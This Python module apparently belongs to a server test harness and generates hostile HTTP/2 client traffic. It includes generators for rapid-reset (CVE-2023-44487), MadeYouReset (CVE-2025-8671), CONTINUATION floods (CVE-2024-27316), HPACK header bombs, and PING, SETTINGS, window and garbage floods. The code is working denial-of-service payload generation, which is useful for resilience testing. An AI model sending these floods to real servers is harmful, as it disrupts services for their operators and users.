"""What a hostile HTTP/2 client sends. Each kind is a generator of (bytes, frames in them); a flood never ends.

The first bytes (preface, SETTINGS) are the caller's, unless the kind is about them. attack_h1.py has HTTP/1.1.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from itertools import count
from typing import Final, TypeAlias

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

Fields: TypeAlias = Sequence[tuple[str, str]]
Steps: TypeAlias = Iterator[tuple[bytes, int]]
Flood: TypeAlias = Callable[[Encoder], Steps]

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OPEN: Final = PREFACE + SettingsFrame(0, {}).serialize()
REQUEST: Final = [(":method", "POST"), (":scheme", "http"), (":path", "/wait"), (":authority", "h")]
QUICK: Final = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "h")]
BIG: Final = [(":method", "GET"), (":scheme", "http"), (":path", "/big"), (":authority", "h")]
MOST: Final = 2**31 - 1
TABLE_SIZE, WINDOW_SIZE, FRAME_SIZE = 1, 4, 5  # SETTINGS


def headers(
    encoder: Encoder, stream_id: int, fields: Fields = REQUEST, flags: Sequence[str] = ("END_HEADERS",)
) -> bytes:
    """A HEADERS frame."""
    return HeadersFrame(stream_id, encoder.encode(fields), flags=list(flags)).serialize()


def whole(encoder: Encoder, stream_id: int, fields: Fields = REQUEST) -> bytes:
    """A request without a body."""
    return headers(encoder, stream_id, fields, ("END_HEADERS", "END_STREAM"))


# ---- resets: the client's, and those it makes the server do (CVE-2023-44487, CVE-2025-8671) ----


def rapid_reset(encoder: Encoder) -> Steps:
    """Requests that are cancelled at once."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1
        yield RstStreamFrame(stream_id, error_code=8).serialize(), 1


def rapid_reset_of_uploads(encoder: Encoder) -> Steps:
    """Cancelled before the body comes."""
    for stream_id in count(1, 2):
        yield headers(encoder, stream_id), 1
        yield RstStreamFrame(stream_id, error_code=8).serialize(), 1


def made_you_reset(encoder: Encoder) -> Steps:
    """The window of a stream overflows."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1
        yield WindowUpdateFrame(stream_id, window_increment=MOST).serialize(), 1


def window_updates_of_nothing(encoder: Encoder) -> Steps:
    """WINDOW_UPDATE by 0 on a stream."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1
        yield (4).to_bytes(3) + b"\x08\x00" + stream_id.to_bytes(4) + bytes(4), 1


def headers_on_half_closed(encoder: Encoder) -> Steps:
    """A second head after END_STREAM."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1
        yield whole(encoder, stream_id), 1


def data_on_half_closed(encoder: Encoder) -> Steps:
    """DATA after END_STREAM."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1
        yield DataFrame(stream_id, b"x" * 100).serialize(), 1


def priorities_on_itself(encoder: Encoder) -> Steps:
    """A stream that depends on itself."""
    for stream_id in count(1, 2):
        frame = HeadersFrame(stream_id, encoder.encode(REQUEST), flags=["END_HEADERS", "PRIORITY"])
        frame.depends_on, frame.stream_weight = stream_id, 1
        yield frame.serialize(), 1


def malformed_requests(encoder: Encoder) -> Steps:
    """A header that HTTP/2 forbids."""
    for stream_id in count(1, 2):
        fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), ("connection", "x")]
        yield whole(encoder, stream_id, fields), 1


def refused_streams(encoder: Encoder) -> Steps:
    """More streams than allowed."""
    for stream_id in count(1, 2):
        yield whole(encoder, stream_id), 1


def resets_of_closed(encoder: Encoder) -> Steps:
    """RST_STREAM of a stream that was answered."""
    yield whole(encoder, 1, QUICK), 1
    while True:
        yield RstStreamFrame(1, error_code=8).serialize(), 1


# ---- frames of streams that are gone ----


def data_on_closed(encoder: Encoder) -> Steps:
    """DATA on a stream that the client has reset."""
    yield headers(encoder, 1), 1
    yield RstStreamFrame(1, error_code=8).serialize(), 1
    while True:
        yield DataFrame(1, b"x" * 100).serialize(), 1


def last_data_on_closed(encoder: Encoder) -> Steps:
    """The same, each the end of the stream."""
    yield headers(encoder, 1), 1
    yield RstStreamFrame(1, error_code=8).serialize(), 1
    while True:
        yield DataFrame(1, b"x" * 100, flags=["END_STREAM"]).serialize(), 1


def headers_on_closed(encoder: Encoder) -> Steps:
    """HEADERS on a stream that the client has reset; its bytes must be unpacked all the same."""
    yield headers(encoder, 1), 1
    yield RstStreamFrame(1, error_code=8).serialize(), 1
    while True:
        yield whole(encoder, 1), 1


# ---- header blocks ----


def continuations(encoder: Encoder) -> Steps:
    """Empty ones without an end (CVE-2024-27316)."""
    yield HeadersFrame(1, encoder.encode(REQUEST)).serialize(), 1
    while True:
        yield ContinuationFrame(1, b"").serialize(), 1


def continuations_of_headers(encoder: Encoder) -> Steps:
    """A header in each, without an end."""
    yield HeadersFrame(1, encoder.encode(REQUEST)).serialize(), 1
    for i in count():
        yield ContinuationFrame(1, encoder.encode([("x-more", str(i))])).serialize(), 1


def continuations_over_streams(encoder: Encoder) -> Steps:
    """A few on each of many requests, below any bound on one header block."""
    for stream_id in count(1, 2):
        yield HeadersFrame(stream_id, encoder.encode(REQUEST), flags=["END_STREAM"]).serialize(), 1
        for i in range(4):
            flags = ["END_HEADERS"] if i == 3 else []
            yield ContinuationFrame(stream_id, b"", flags=flags).serialize(), 1


def header_lists(encoder: Encoder) -> Steps:
    """4 KB in the table, named 200 times by a byte: 800 KB of headers in every request."""
    encoder.encode([("x-big", "v" * 3900)])
    for stream_id in count(1, 2):
        block = encoder.encode([*QUICK, ("x-big", "v" * 3900)])
        index = encoder.encode([("x-big", "v" * 3900)])
        flags = ["END_HEADERS", "END_STREAM"]
        yield HeadersFrame(stream_id, block + index * 200, flags=flags).serialize(), 1


def header_bomb(encoder: Encoder) -> Steps:
    """The same 16,000 times: one request, 64 MB."""
    block = encoder.encode([*REQUEST, ("x-bomb", "v" * 4000)]) + b"\xbe" * 16000
    yield HeadersFrame(1, block[:16384]).serialize(), 1
    yield ContinuationFrame(1, block[16384:], flags=["END_HEADERS"]).serialize(), 1


def table_sizes(encoder: Encoder) -> Steps:
    """Nothing but changes of the table's size."""
    for stream_id in count(1, 2):
        flags = ["END_HEADERS", "END_STREAM"]
        yield HeadersFrame(stream_id, b"\x20\x3f\xe1\x1f" * 4000, flags=flags).serialize(), 1


# ---- bodies ----


def empty_data(encoder: Encoder) -> Steps:
    """DATA of nothing."""
    yield headers(encoder, 1), 1
    while True:
        yield DataFrame(1, b"").serialize(), 1


def padded_empty_data(encoder: Encoder) -> Steps:
    """DATA of padding."""
    yield headers(encoder, 1), 1
    while True:
        yield DataFrame(1, b"", pad_length=5, flags=["PADDED"]).serialize(), 1


def one_byte_data(encoder: Encoder) -> Steps:
    """A body in frames of a byte."""
    yield headers(encoder, 1), 1
    while True:
        yield DataFrame(1, b"x").serialize(), 1


def one_byte_data_over_streams(encoder: Encoder) -> Steps:
    """The same, on many streams in turn."""
    for stream_id in range(1, 100, 2):
        yield headers(encoder, stream_id), 1
    while True:
        for stream_id in range(1, 100, 2):
            yield DataFrame(stream_id, b"x").serialize(), 1


# ---- frames that are about the connection ----


def pings(encoder: Encoder) -> Steps:
    """Each wants an answer."""
    while True:
        yield PingFrame(0, bytes(8)).serialize(), 1


def ping_acks(encoder: Encoder) -> Steps:
    """Answers to PINGs that were never sent."""
    while True:
        yield PingFrame(0, bytes(8), flags=["ACK"]).serialize(), 1


def settings(encoder: Encoder) -> Steps:
    """Each wants an answer."""
    while True:
        yield SettingsFrame(0, {}).serialize(), 1


def settings_that_change(encoder: Encoder) -> Steps:
    """Sizes of the table, the window and frames, another each time, with streams open."""
    for stream_id in range(1, 100, 2):
        yield whole(encoder, stream_id), 1
    for i in count():
        values = {TABLE_SIZE: i * 999_983 % 2**32, WINDOW_SIZE: i % 65_536, FRAME_SIZE: 16_384 + i % 2}
        yield SettingsFrame(0, values).serialize(), 1


def settings_acks(encoder: Encoder) -> Steps:
    """Answers to SETTINGS that were never sent."""
    while True:
        yield SettingsFrame(0, flags=["ACK"]).serialize(), 1


def long_settings(encoder: Encoder) -> Steps:
    """The window of all streams changed 2,700 times in a frame."""
    for stream_id in range(1, 100, 2):
        yield whole(encoder, stream_id), 1
    entries = b"".join(WINDOW_SIZE.to_bytes(2) + (i % 65_536).to_bytes(4) for i in range(2_700))
    while True:
        yield len(entries).to_bytes(3) + b"\x04\x00" + bytes(4) + entries, 1


def window_updates(encoder: Encoder) -> Steps:
    """By one byte, of the connection."""
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize(), 1


def connection_window_overflow(encoder: Encoder) -> Steps:
    """More than a window can be."""
    while True:
        yield WindowUpdateFrame(0, window_increment=MOST).serialize(), 1


def window_drip(encoder: Encoder) -> Steps:
    """A reader that opens its window by a byte at a time."""
    yield SettingsFrame(0, {WINDOW_SIZE: 0}).serialize(), 1
    yield whole(encoder, 1, BIG), 1
    while True:
        yield WindowUpdateFrame(1, window_increment=1).serialize(), 1


def priorities(encoder: Encoder) -> Steps:
    """Of streams that do not exist."""
    for stream_id in count(1, 2):
        yield PriorityFrame(stream_id, depends_on=0, stream_weight=1).serialize(), 1


def priority_updates(encoder: Encoder) -> Steps:
    """RFC 9218's."""
    for stream_id in count(1, 2):
        body = stream_id.to_bytes(4) + b"u=1"
        yield ExtensionFrame(type=0x10, stream_id=0, body=body).serialize(), 1


def unknown_frames(encoder: Encoder) -> Steps:
    """To be ignored."""
    while True:
        yield ExtensionFrame(type=0xF0, stream_id=0, body=b"").serialize(), 1


def goaways(encoder: Encoder) -> Steps:
    """While a request waits."""
    yield headers(encoder, 1), 1
    while True:
        yield GoAwayFrame(0, last_stream_id=0, additional_data=b"x" * 1000).serialize(), 1


def push_promises(encoder: Encoder) -> Steps:
    """A client may not."""
    yield whole(encoder, 1), 1
    while True:
        frame = PushPromiseFrame(1, promised_stream_id=2, data=encoder.encode(QUICK), flags=["END_HEADERS"])
        yield frame.serialize(), 1


def frame_too_long(encoder: Encoder) -> Steps:
    """16 MiB announced."""
    yield MOST.to_bytes(4)[1:] + b"\x00\x00" + (1).to_bytes(4) + b"x" * 100, 1


def garbage(encoder: Encoder) -> Steps:
    """No frames at all."""
    for i in count():
        yield bytes((j * 31 + i) % 256 for j in range(100)), 1


# Ended by the budget, or at once because the frames are forbidden. All take the session's part alone.
FLOODS: Final[dict[str, Flood]] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        rapid_reset_of_uploads,
        made_you_reset,
        window_updates_of_nothing,
        headers_on_half_closed,
        data_on_half_closed,
        priorities_on_itself,
        malformed_requests,
        refused_streams,
        resets_of_closed,
        data_on_closed,
        last_data_on_closed,
        headers_on_closed,
        continuations,
        continuations_of_headers,
        continuations_over_streams,
        header_lists,
        table_sizes,
        empty_data,
        padded_empty_data,
        one_byte_data,
        one_byte_data_over_streams,
        pings,
        ping_acks,
        settings,
        settings_that_change,
        settings_acks,
        long_settings,
        window_updates,
        connection_window_overflow,
        window_drip,
        priorities,
        priority_updates,
        unknown_frames,
        goaways,
        push_promises,
        garbage,
    )
}
# One request or frame that is never accepted.
SINGLE: Final[dict[str, Flood]] = {"header_bomb": header_bomb, "frame_too_long": frame_too_long}


def flood_bytes(name: str, n_frames: int) -> bytes:
    """The first `n_frames` of a flood."""
    out, total = [], 0
    for data, n in (FLOODS | SINGLE)[name](Encoder()):
        out.append(data)
        total += n
        if total >= n_frames:
            break
    return b"".join(out)
